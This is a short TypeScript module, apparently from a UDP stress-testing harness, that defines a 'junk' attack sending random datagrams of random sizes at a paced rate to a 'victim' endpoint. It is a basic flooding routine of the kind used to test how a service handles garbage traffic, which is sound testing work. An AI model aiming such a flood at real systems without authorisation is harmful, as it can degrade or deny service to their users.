/**
 * `junk`: random bytes of random sizes (1 to 1,400) from one socket.
 *
 * @module
 */
import { type Attack, paced, randomBytes, udpSender } from "./_attack.ts";

const POOL = 1024;
const MAX_SIZE = 1400;

/** Random datagrams: the cheapest thing anyone can send. */
export const junk: Attack = {
  name: "junk",
  async run(ctx) {
    const pool = Array.from(
      { length: POOL },
      () => randomBytes(1 + Math.floor(Math.random() * MAX_SIZE)),
    );
    const udp = udpSender(ctx.victim.endpoint);
    try {
      const sent = await paced(ctx.rate, ctx.deadline, (i) => udp.send(pool[i % POOL]!));
      return { packets_sent: sent, notes: { sizes: `1..${MAX_SIZE}`, distinct_datagrams: POOL } };
    } finally {
      udp.close();
    }
  },
};
